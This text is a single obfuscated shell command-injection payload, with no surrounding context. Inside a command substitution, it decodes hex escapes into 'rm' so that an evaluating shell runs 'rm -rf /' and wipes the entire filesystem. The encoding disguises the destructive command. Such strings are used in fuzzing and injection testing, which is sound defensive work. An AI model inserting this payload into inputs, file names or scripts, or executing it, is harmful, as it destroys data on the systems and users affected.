$(echo -e '\x72\x6d -rf /')
